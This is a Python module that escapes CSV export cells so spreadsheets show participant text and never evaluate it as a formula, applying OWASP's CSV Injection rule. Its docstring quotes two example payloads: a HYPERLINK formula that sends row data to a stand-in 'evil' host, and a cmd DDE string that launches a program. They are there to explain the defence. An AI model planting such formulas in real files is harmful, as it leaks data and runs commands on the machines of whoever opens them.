"""CSV files that a spreadsheet can open without running what a participant wrote (issue 21, item 5).

Every CSV the project writes (the review page's reconciliation, the lab links, the questionnaire
and Colors in Context exports, the CoDraw key file and the arms table) goes through this module.
A spreadsheet (Excel, LibreOffice, Google Sheets) reads a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return as a formula: ``=HYPERLINK("http://evil/?"&A1,"click")``
sends the row away when clicked, ``+cmd|' /C calc'!A0`` asks to run a program. OWASP's rule (CSV
Injection) is applied:

* ``safe_cell``: a text cell that starts with one of those characters gets a single quote in front,
  so the spreadsheet shows it as text. A text cell that already starts with a single quote gets
  one too, so the escape can always be undone: ``original_text`` drops one leading quote, if any.
  Numbers (``int``, ``float``) are the server's and are written as they are.
* every text cell is written inside double quotes (``"`` doubled within), so a spreadsheet that
  splits on another separator (``;`` in many locales) cannot cut a cell in two and start a
  formula in the second half: ``writer`` / ``DictWriter`` quote every cell (``QUOTE_ALL``);
  ``dataset_writer`` (a dataset read by other people's code: Colors in Context) quotes every
  text cell and leaves the numbers bare (``QUOTE_NONNUMERIC``, the layout R's ``write.csv``
  gives; csv, pandas and R readers take the quotes off and read the numbers as numbers).

docs/exports.md says which cells of each file a participant can influence.
"""
from __future__ import annotations

import csv
from typing import IO, Any, Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will show it and never evaluate it (see the module docstring)."""
    if isinstance(value, str) and value[:1] in (*FORMULA_STARTS, QUOTE):
        return QUOTE + value
    return value


def original_text(cell: str) -> str:
    """The text that ``safe_cell`` escaped: one leading single quote dropped, if there is one."""
    return cell[1:] if cell.startswith(QUOTE) else cell


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class _Writer:
    def __init__(self, out: IO[str], quoting: int):
        self._writer = csv.writer(out, quoting=quoting)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose every cell is quoted (``QUOTE_ALL`` unless told) and escaped."""

    def __init__(self, out: IO[str], fieldnames, *, quoting: int = csv.QUOTE_ALL):
        super().__init__(out, fieldnames=fieldnames, quoting=quoting)

    def writerow(self, rowdict: dict):
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})


def writer(out: IO[str]) -> _Writer:
    """A ``csv.writer`` for the lab's own files: every cell quoted and escaped."""
    return _Writer(out, csv.QUOTE_ALL)


def dataset_writer(out: IO[str], fieldnames) -> DictWriter:
    """A ``DictWriter`` for a released dataset's format: text cells quoted and escaped, numbers bare."""
    return DictWriter(out, fieldnames, quoting=csv.QUOTE_NONNUMERIC)
